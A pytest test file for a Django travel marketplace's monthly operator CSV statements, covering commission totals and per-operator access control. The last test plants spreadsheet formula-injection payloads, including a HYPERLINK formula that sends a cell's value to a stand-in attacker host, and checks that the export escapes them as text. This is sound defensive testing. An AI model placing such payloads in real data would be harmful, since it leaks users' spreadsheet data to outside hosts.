"""Monthly statement CSV: component prices less commission; each operator reads only its own."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from packages.models import PackageSupplierTerms
from tests.factories import UserFactory
from tests.operators.factories import MembershipFactory
from tests.packages.factories import make_package, priced_service
from tests.payments.conftest import TRAVELLERS, place_order

pytestmark = pytest.mark.django_db


@pytest.fixture
def sold(client, today, settings, django_capture_on_commit_callbacks):
    """One package of two operators' services, bought by a guest for 2 adults."""
    settings.STRIPE_SECRET_KEY = ""
    villa = MembershipFactory(operator__name="Villa Oliva")
    guide = MembershipFactory(operator__name="Guide di Lucca")
    PackageSupplierTerms.objects.create(operator=guide.operator, commission_percent=Decimal("10"))
    package = make_package(
        services=[
            priced_service(operator=villa.operator, name="Notte in villa", adult="100.00"),
            priced_service(operator=guide.operator, name="Visita alle Mura", adult="25.00"),
        ],
        days=[1, 1],
    )
    on = today + dt.timedelta(days=20)
    client.post(reverse("packages:basket-add", kwargs={"pk": package.pk}),
                {"date": on.isoformat(), "adults": 2, "children_ages": "", "infants": 0})  # fmt: skip
    client.post(reverse("checkout:index"), {"username": "g@example.com", "options": "anonymous"})
    client.post(reverse("checkout:travellers"), TRAVELLERS)
    client.get(reverse("checkout:payment-details"), follow=True)
    with django_capture_on_commit_callbacks(execute=True):
        place_order(client)
    client.logout()
    return {"villa": villa, "guide": guide, "on": on}


def rows(response):
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_operator_downloads_its_own_statement_only(client, sold):
    on = sold["on"]
    client.force_login(sold["guide"].user)

    response = client.get(reverse("packages:operator-statement", kwargs={"year": on.year, "month": on.month}))

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    data = rows(response)
    assert data[0][0] == "date"
    assert [r[4] for r in data[1:-1]] == ["Visita alle Mura"]
    assert data[-1] == ["total", "", "", "", "", "", "50.00", "", "5.00", "45.00", "", ""]
    assert "Notte in villa" not in response.content.decode()


def test_operator_cannot_read_another_operators_statement_through_the_staff_url(client, sold):
    on = sold["on"]
    client.force_login(sold["guide"].user)
    url = reverse(
        "packages:staff-statement",
        kwargs={"operator_id": sold["villa"].operator.pk, "year": on.year, "month": on.month},
    )
    assert client.get(url).status_code == 403


def test_staff_reads_any_operators_statement(client, sold):
    on = sold["on"]
    client.force_login(UserFactory(is_staff=True))
    url = reverse(
        "packages:staff-statement",
        kwargs={"operator_id": sold["villa"].operator.pk, "year": on.year, "month": on.month},
    )
    data = rows(client.get(url))
    assert data[-1] == ["total", "", "", "", "", "", "200.00", "", "30.00", "170.00", "", ""]  # default 15 %


def test_user_without_operator_gets_404_and_anonymous_is_sent_to_login(client, sold):
    today = dt.date.today()
    url = reverse("packages:operator-statement", kwargs={"year": today.year, "month": today.month})
    assert client.get(url).status_code == 302
    client.force_login(UserFactory())
    assert client.get(url).status_code == 404
    assert client.get("/it/packages/statements/2030/13/").status_code == 404


def test_operator_parts_page_lists_only_its_own_parts(client, sold):
    on = sold["on"]
    client.force_login(sold["villa"].user)
    response = client.get(reverse("packages:operator-parts-month", kwargs={"year": on.year, "month": on.month}))
    html = response.content.decode()
    assert response.status_code == 200
    assert "Notte in villa" in html and "Visita alle Mura" not in html
    client.force_login(UserFactory())
    assert client.get(reverse("packages:operator-parts")).status_code == 404


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Apri")'


def test_csv_exports_write_operator_and_customer_names_that_look_like_formulas_as_text(client, sold):
    """Names typed by operators (service, package) and customers (email) that a spreadsheet would run
    as a formula reach every CSV export as text (a leading '), amounts stay numbers."""
    from oscar.apps.order.models import Order

    from marketplace.core.roles import Role
    from operators.models import Service
    from packages.models import Package

    Service.objects.filter(name="Visita alle Mura").update(name=FORMULA)
    Package.objects.update(title="@SUM(1+1)")
    Order.objects.update(guest_email="+1-2@example.com")
    on = sold["on"]
    client.force_login(sold["guide"].user)

    statement = rows(client.get(reverse("packages:operator-statement", kwargs={"year": on.year, "month": on.month})))

    assert [(r[3], r[4]) for r in statement[1:-1]] == [("'@SUM(1+1)", "'" + FORMULA)]
    assert statement[-1] == ["total", "", "", "", "", "", "50.00", "", "5.00", "45.00", "", ""]

    client.force_login(UserFactory(role=Role.STAFF))
    orders = rows(client.get(reverse("dashboard:order-list"), {"response_format": "csv"}))
    assert orders[1][5] == "'+1-2@example.com"  # Oscar's dashboard export goes through the same rule
